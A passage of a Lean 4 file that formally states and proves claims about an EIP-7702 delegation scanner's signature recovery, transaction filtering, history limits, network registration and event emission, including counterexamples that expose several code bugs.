        checkEndpoints ("abcd1234") ("ethereum") evilRespond
      ∧ ProfilerEffect.evalWithScanner ("remote-payload") ∈
        checkEndpoints ("abcd1234") ("ethereum") evilRespond := by
  decide

/-- Claim C2: with signature material present, `recoverAuthorityAddress`
signs over `keccak256(0x05 || rlp([chainId, delegateAddress, nonce]))` with
a zero nonce RLP-encoded as the empty byte string; the recovery parameter
is the explicit `v` when present, else `yParity` mapped `0` to `27` and `1`
to `28`; with neither present the function returns `null`. -/
theorem claim_C2 (C : CryptoOps) (auth : Authorization) (chainId : Nat) :
    (auth.v = none → auth.yParity = none →
      recoverAuthorityAddress C auth chainId = none)
    ∧ (∀ v r s a, auth.v = some v → auth.r = some r → auth.s = some s →
        C.recoverAddress
          (C.keccak256 (5 :: rlpList
            [toBeHex (resolveChainId auth chainId), auth.address.getD [],
             if auth.nonce.getD 0 = 0 then [] else toBeHex (auth.nonce.getD 0)]))
          r s v = some a →
        recoverAuthorityAddress C auth chainId = some (jsToLower a))
    ∧ (∀ yp r s a, auth.v = none → auth.yParity = some yp →
        auth.r = some r → auth.s = some s →
        C.recoverAddress
          (C.keccak256 (5 :: rlpList
            [toBeHex (resolveChainId auth chainId), auth.address.getD [],
             if auth.nonce.getD 0 = 0 then [] else toBeHex (auth.nonce.getD 0)]))
          r s (if yp = 0 then 27 else 28) = some a →
        recoverAuthorityAddress C auth chainId = some (jsToLower a)) := by
  refine ⟨?_, ?_, ?_⟩
  · intro hv hyp
    simp [recoverAuthorityAddress, normRecoveryV, hv, hyp]
  · intro v r s a hv hr hs hrec
    have hrec2 : C.recoverAddress (C.keccak256 (5 :: authRlp auth chainId)) r s v = some a := by
      simpa [authRlp, authNonceBytes] using hrec
    simp [recoverAuthorityAddress, normRecoveryV, hv, hr, hs, hrec2]
  · intro yp r s a hv hyp hr hs hrec
    have hrec2 : C.recoverAddress (C.keccak256 (5 :: authRlp auth chainId)) r s
        (if yp = 0 then 27 else 28) = some a := by
      simpa [authRlp, authNonceBytes] using hrec
    simp [recoverAuthorityAddress, normRecoveryV, hv, hyp, hr, hs, hrec2]

/-- Witness for C2 at concrete inputs: an authorization without recovery
parameter yields `null`; one with `v = 27` under an always-succeeding
recovery function yields the lowercased recovered address. -/
theorem claim_C2_witness :
    recoverAuthorityAddress cryptoAlwaysAB authNoRecParam 1 = none
      ∧ recoverAuthorityAddress cryptoAlwaysAB authV27 1 = some ("0xab") := by
  constructor
  · exact (claim_C2 cryptoAlwaysAB authNoRecParam 1).1 rfl rfl
  · have h := (claim_C2 cryptoAlwaysAB authV27 1).2.1 27 [1] [2] ("0xAB") rfl rfl rfl rfl
    exact h.trans (by decide)

/-- Counterexample for C3: an authorization with `r` and `s` but no
recovery parameter returns `null` directly from the canonical path even
under a recovery function that succeeds on every input — so the claimed
fallback attempt with default `v = 27` is never performed (the canonical
path returns `null` without throwing, and the catch-block fallback is
only reachable from a throw). -/
theorem claim_C3_counterexample :
    cryptoAlwaysAA.recoverAddress [0] [0] [0] 27 = some ("0xAA")
      ∧ recoverAuthorityAddress cryptoAlwaysAA authNoRecParam 1 = none := by
  exact ⟨rfl, rfl⟩

/-- Claim C3 as amended: when a recovery parameter is present and the
canonical magic-byte recovery attempt fails, `recoverAuthorityAddress`
retries over the Keccak-256 of the RLP encoding without the magic byte
with the same recovery-parameter rule; but when neither `v` nor `yParity`
is present it returns `null` immediately and no fallback attempt (and no
`v = 27` default) is made. -/
theorem claim_C3 (C : CryptoOps) (auth : Authorization) (chainId : Nat) :
    (∀ v r s, auth.v = some v → auth.r = some r → auth.s = some s →
      C.recoverAddress (C.keccak256 (5 :: authRlp auth chainId)) r s v = none →
      recoverAuthorityAddress C auth chainId =
        (C.recoverAddress (C.keccak256 (authRlp auth chainId)) r s v).map jsToLower)
    ∧ (∀ yp r s, auth.v = none → auth.yParity = some yp →
        auth.r = some r → auth.s = some s →
        C.recoverAddress (C.keccak256 (5 :: authRlp auth chainId)) r s
          (if yp = 0 then 27 else 28) = none →
        recoverAuthorityAddress C auth chainId =
          (C.recoverAddress (C.keccak256 (authRlp auth chainId)) r s
            (if yp = 0 then 27 else 28)).map jsToLower)
    ∧ (auth.v = none → auth.yParity = none →
        recoverAuthorityAddress C auth chainId = none) := by
  refine ⟨?_, ?_, ?_⟩
  · intro v r s hv hr hs hfail
    simp [recoverAuthorityAddress, fallbackRecovery, normRecoveryV, hv, hr, hs, hfail]
  · intro yp r s hv hyp hr hs hfail
    simp [recoverAuthorityAddress, fallbackRecovery, normRecoveryV, hv, hyp, hr, hs, hfail]
  · intro hv hyp
    simp [recoverAuthorityAddress, normRecoveryV, hv, hyp]

/-- Witness for C3 at a concrete input: with `v = 27` present and a
recovery function that always throws, both attempts fail and the result is
`null`. -/
theorem claim_C3_witness :
    recoverAuthorityAddress cryptoNever authV27 1 = none := by
  have h := (claim_C3 cryptoNever authV27 1).1 27 [1] [2] rfl rfl rfl rfl
  simpa [cryptoNever] using h

/-- Counterexample for C4: a record produced when signature recovery fails
entirely (always-throwing recovery, authority attributed to the sender) is
IDENTICAL to the record produced when recovery cryptographically succeeds
with the sender address — the record carries no confidence flag, so the
two outcomes are not distinguishable by the consumer. -/
theorem claim_C4_counterexample :
    processDelegation cryptoNever 1 ("ethereum") txV27 blkOne =
        processDelegation cryptoAlwaysAB 1 ("ethereum") txV27 blkOne
      ∧ recoverAuthorityAddress cryptoNever (normalizeAuth authV27) 1 = none
      ∧ recoverAuthorityAddress cryptoAlwaysAB (normalizeAuth authV27) 1 = some ("0xab") := by
  decide

/-- Claim C4 as amended: when recovery of the first authorization fails
entirely, the produced record attributes the authority to the lowercased
transaction sender; but no confidence flag exists on the record, so this
outcome is not distinguishable from a recovered authority. -/
theorem claim_C4 (C : CryptoOps) (chainId : Nat) (network : String)
    (tx : Tx) (blk : BlockInfo) :
    ∀ a rest, tx.authorizationList = a :: rest →
      recoverAuthorityAddress C (normalizeAuth a) chainId = none →
      Option.map DelegationRecord.authority (processDelegation C chainId network tx blk)
        = some (jsToLower tx.fromAddr) := by
  intro a rest hlist hrec
  simp [processDelegation, hlist, hrec]

/-- Witness for C4 at a concrete input. -/
theorem claim_C4_witness :
    Option.map DelegationRecord.authority
        (processDelegation cryptoNever 1 ("ethereum") txV27 blkOne)
      = some (jsToLower ("0xAB")) := by
  exact claim_C4 cryptoNever 1 ("ethereum") txV27 blkOne authV27 [] rfl (by decide)

/-- Claim C5: `scanBlock` never propagates an exception — a failed block
fetch yields the empty record list plus one line on the error channel, a
missing block yields the empty result, and a block none of whose delivered
transactions pass the type-4 selection yields the empty record list. -/
theorem claim_C5 (gb : Nat → Except String (Option SBlock))
    (gt : Nat → Except String (Option Tx)) (C : CryptoOps)
    (chainId : Nat) (network : String) (bn : Nat) :
    (∀ e, gb bn = Except.error e →
      scanBlock gb gt C chainId network bn =
        ([], [], ["Error scanning block " ++ toString bn ++ ": " ++ e]))
    ∧ (gb bn = Except.ok none → scanBlock gb gt C chainId network bn = ([], [], []))
    ∧ (∀ block, gb bn = Except.ok (some block) →
        (∀ t ∈ (block.transactions.map (fetchTx gt)).filterMap id, isEip7702Tx t = false) →
        (scanBlock gb gt C chainId network bn).1 = []) := by
  refine ⟨?_, ?_, ?_⟩
  · intro e he
    simp [scanBlock, he]
  · intro h
    simp [scanBlock, h]
  · intro block hb hall
    have hfil : ((block.transactions.map (fetchTx gt)).filterMap id).filter isEip7702Tx = [] :=
      filter_eq_nil_of_all_false _ _ hall
    rw [scanBlock_ok_records gb gt C chainId network bn block hb,
      scanTxsOut_records_eq, hfil, List.filterMap_nil]

/-- Witness for C5 at concrete inputs: a fetch failure, a missing block,
and a block with one non-type-4 transaction. -/
theorem claim_C5_witness :
    scanBlock gbErr gtNone cryptoNever 1 ("ethereum") 7 =
        ([], [], ["Error scanning block 7: boom"])
      ∧ scanBlock gbNoneB gtNone cryptoNever 1 ("ethereum") 7 = ([], [], [])
      ∧ (scanBlock gbOther gtOther cryptoNever 1 ("ethereum") 2).1 = [] := by
  refine ⟨?_, ?_, ?_⟩
  · exact ((claim_C5 gbErr gtNone cryptoNever 1 ("ethereum") 7).1 ("boom") rfl).trans (by decide)
  · exact (claim_C5 gbNoneB gtNone cryptoNever 1 ("ethereum") 7).2.1 rfl
  · exact (claim_C5 gbOther gtOther cryptoNever 1 ("ethereum") 2).2.2 sblockOther rfl (by decide)

/-- Counterexample for C6: a delegation-setup transaction whose type field
is the hex string `"0x04"` produces NO record (the code compares the raw
value with strict equality against the number `4` and the exact string
`"0x4"` only), while the identical transaction spelled `"0x4"` produces
one — refuting that every hex-string encoding of 4 is accepted. -/
theorem claim_C6_counterexample :
    (scanBlock gb0x04 gt0x04 cryptoAlwaysAB 1 ("ethereum") 1).1 = []
      ∧ (scanBlock gb0x4 gt0x4 cryptoAlwaysAB 1 ("ethereum") 1).1.length = 1 := by
  decide

/-- Claim C6 as amended: `scanBlock` converts exactly the delivered
transactions whose computed type value is the number `4` or the exact
string `"0x4"` (hex encodings of 4 are otherwise accepted only through
`typeHex` when `type` is undefined) and whose authorization list is
non-empty. -/
theorem claim_C6 (gb : Nat → Except String (Option SBlock))
    (gt : Nat → Except String (Option Tx)) (C : CryptoOps)
    (chainId : Nat) (network : String) (bn : Nat) :
    (∀ block, gb bn = Except.ok (some block) →
      (scanBlock gb gt C chainId network bn).1 =
        (((block.transactions.map (fetchTx gt)).filterMap id).filter isEip7702Tx).filterMap
          (fun tx => processDelegation C chainId network tx ⟨block.number, block.timestamp⟩))
    ∧ (∀ tx, isEip7702Tx tx = true ↔
        ((txTypeOf tx = JSVal.num 4 ∨ txTypeOf tx = JSVal.str ("0x4"))
          ∧ tx.authorizationList ≠ [])) := by
  constructor
  · intro block hb
    simp [scanBlock, hb, scanTxsOut_records_eq]
  · intro tx
    cases h : tx.authorizationList with
    | nil => simp [isEip7702Tx, h]
    | cons a t => simp [isEip7702Tx, h]

/-- Witness for C6 at a concrete input: the `"0x4"` block satisfies the
characterization. -/
theorem claim_C6_witness :
    (scanBlock gb0x4 gt0x4 cryptoAlwaysAB 1 ("ethereum") 1).1 =
        (((sblock0x4.transactions.map (fetchTx gt0x4)).filterMap id).filter
            isEip7702Tx).filterMap
          (fun tx => processDelegation cryptoAlwaysAB 1 ("ethereum") tx ⟨1, 0⟩)
      ∧ (isEip7702Tx tx0x4 = true ↔
          ((txTypeOf tx0x4 = JSVal.num 4 ∨ txTypeOf tx0x4 = JSVal.str ("0x4"))
            ∧ tx0x4.authorizationList ≠ [])) := by
  have h := claim_C6 gb0x4 gt0x4 cryptoAlwaysAB 1 ("ethereum") 1
  exact ⟨h.1 sblock0x4 rfl, h.2 tx0x4⟩

/-- Claim C7 (code bug): for an authorization whose signature material is
nested with `yParity = 0` and no flat fields, normalization copies `r` and
`s` but DROPS the recovery id (the JavaScript `||` treats the number `0`
as absent), so the normalized authorization exposes no usable recovery id
and recovery returns `null` even under a recovery function that succeeds
on every input. -/
theorem claim_C7 :
    (normalizeAuth nestedSigAuth).r = some [1]
      ∧ (normalizeAuth nestedSigAuth).s = some [2]
      ∧ (normalizeAuth nestedSigAuth).v = none
      ∧ (normalizeAuth nestedSigAuth).yParity = none
      ∧ recoverAuthorityAddress cryptoAlwaysAB (normalizeAuth nestedSigAuth) 1 = none := by
  decide

/-- Claim C8 (code bug): `getDelegationHistory` can return MORE than
`limit` entries.  With `limit = 1` and two matching blocks inside one
100-block chunk it returns 2 entries: the `break` taken after reaching the
limit only exits the inner transaction loop, the chunk keeps iterating its
remaining blocks and each of them pushes again before the limit is
re-checked. -/
theorem claim_C8 :
    (getDelegationHistory cryptoNever 1 ("ethereum") histGetBlock 1 ("0xaa") 1).length = 2 := by
  decide

/-- Counterexample for C9: for the unregistered name `avalanche` (an
unsupported network), `addNetwork` returns `false` and registers nothing —
refuting that every call with an unregistered name constructs and
registers a new scanner. -/
theorem claim_C9_counterexample :
    hasNetwork orchEmpty ("avalanche") = false
      ∧ addNetwork orchEmpty ("avalanche") (some ("http://rpc")) none =
        (false, orchEmpty, false) := by
  decide

/-- Claim C9 as amended: `addNetwork` on a registered name returns `false`
with no state change; on a fresh name it attempts scanner construction —
on success the scanner is registered, `true` is returned and the watch is
started exactly when the global monitoring flag is set; a construction
failure (unsupported network, missing RPC URL) returns `false` with no
registration. -/
theorem claim_C9 (st : OrchState) (network : String) (rpcUrl wsUrl : Option String) :
    (hasNetwork st network = true →
      addNetwork st network rpcUrl wsUrl = (false, st, false))
    ∧ (∀ sc, hasNetwork st network = false → mkScanner network rpcUrl wsUrl = Except.ok sc →
        addNetwork st network rpcUrl wsUrl =
          (true, ⟨st.scanners ++ [(network, sc)], st.isMonitoring⟩, st.isMonitoring))
    ∧ (∀ e, hasNetwork st network = false → mkScanner network rpcUrl wsUrl = Except.error e →
        addNetwork st network rpcUrl wsUrl = (false, st, false)) := by
  refine ⟨?_, ?_, ?_⟩
  · intro h
    simp [addNetwork, h]
  · intro sc h hmk
    simp [addNetwork, h, hmk]
  · intro e h hmk
    simp [addNetwork, h, hmk]

/-- Witness for C9 at concrete inputs: a duplicate name is rejected with
no state change; a fresh supported name on a monitoring orchestrator is
registered and its watch started. -/
theorem claim_C9_witness :
    addNetwork orchWithEth ("ethereum") (some ("u")) none = (false, orchWithEth, false)
      ∧ addNetwork orchEmptyMon ("bsc") (some ("u")) none =
        (true, ⟨[("bsc", scannerBsc)], true⟩, true) := by
  constructor
  · exact (claim_C9 orchWithEth ("ethereum") (some ("u")) none).1 rfl
  · have h := (claim_C9 orchEmptyMon ("bsc") (some ("u")) none).2.1 scannerBsc rfl rfl
    exact h.trans (by decide)

/-- Claim C10: `scanBlock` already emits one `delegation` event per record
at discovery time and the watch handler re-emits every record of the
returned list, so a subscriber observes every record of a watched block
exactly twice. -/
theorem claim_C10 (gb : Nat → Except String (Option SBlock))
    (gt : Nat → Except String (Option Tx)) (C : CryptoOps)
    (chainId : Nat) (network : String) (bn : Nat) :
    (scanBlock gb gt C chainId network bn).2.1 = (scanBlock gb gt C chainId network bn).1
    ∧ (watchBlocksHandler gb gt C chainId network bn).1 =
        (scanBlock gb gt C chainId network bn).1 ++ (scanBlock gb gt C chainId network bn).1
    ∧ ∀ d, ((watchBlocksHandler gb gt C chainId network bn).1).count d =
        2 * ((scanBlock gb gt C chainId network bn).1).count d := by
  have hev := scanBlock_events_eq gb gt C chainId network bn
  refine ⟨hev, ?_, ?_⟩
  · simp [watchBlocksHandler, hev]
  · intro d
    simp [watchBlocksHandler, hev, List.count_append, two_mul]

end EIP7702
